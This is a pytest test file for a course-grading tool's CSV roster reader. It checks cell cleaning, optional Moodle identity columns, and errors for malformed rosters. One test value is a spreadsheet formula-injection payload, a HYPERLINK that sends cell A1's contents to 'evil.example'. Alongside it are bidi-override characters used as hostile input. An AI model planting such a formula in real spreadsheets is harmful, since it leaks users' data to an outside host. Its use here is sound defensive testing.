"""The roster as a run reads it: every cell cleaned like an id, optional columns for Moodle's identity,
the teaching assistant's mistakes stopping the run before anyone is graded."""
import pytest

from grader.core.classlist import Enrolled
from grader.intake import RosterError, read_roster

RLO, RLM, LRI, PDI, ZWNJ = "\u202e", "\u200f", "\u2066", "\u2069", "\u200c"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_cells_are_cleaned_and_optional_columns_read(tmp_path):
    quoted = FORMULA.replace('"', '""')
    (tmp_path / "students.csv").write_text(
        "\ufeffid,name_fa,name_en,email,idnumber,username,notes\n"
        f" s1 ,{RLM}سارا{ZWNJ}ی{RLO},\"{quoted}\",{LRI}s1@example.edu{PDI},9001,sara.k,extra\n"
        "S2,نیما\n"  # short row: the missing cells are empty
        ",no id,,,,\n", encoding="utf-8")
    roster = read_roster(tmp_path)
    assert roster == {
        "s1": Enrolled("s1", f"سارا{ZWNJ}ی", FORMULA, "s1@example.edu", "9001", "sara.k"),  # ZWNJ stays
        "s2": Enrolled("S2", "نیما"),
    }
    assert roster["s2"].identity("idnumber") == "S2" and roster["s1"].identity("idnumber") == "9001"


def test_no_roster_is_none_and_a_broken_one_stops_the_run(tmp_path):
    assert read_roster(tmp_path) is None
    (tmp_path / "students.csv").write_text("name,email\nx,y\n")
    with pytest.raises(RosterError, match="must name the columns id"):
        read_roster(tmp_path)
    (tmp_path / "students.csv").write_text("id,name_en\nAna,A\nana,B\n")
    with pytest.raises(RosterError, match="lines 2 and 3 are both for student id 'ana'"):
        read_roster(tmp_path)
    (tmp_path / "students.csv").write_bytes(b"id,name_en\n\xff\xfe,x\n")
    with pytest.raises(RosterError, match="cannot read"):
        read_roster(tmp_path)
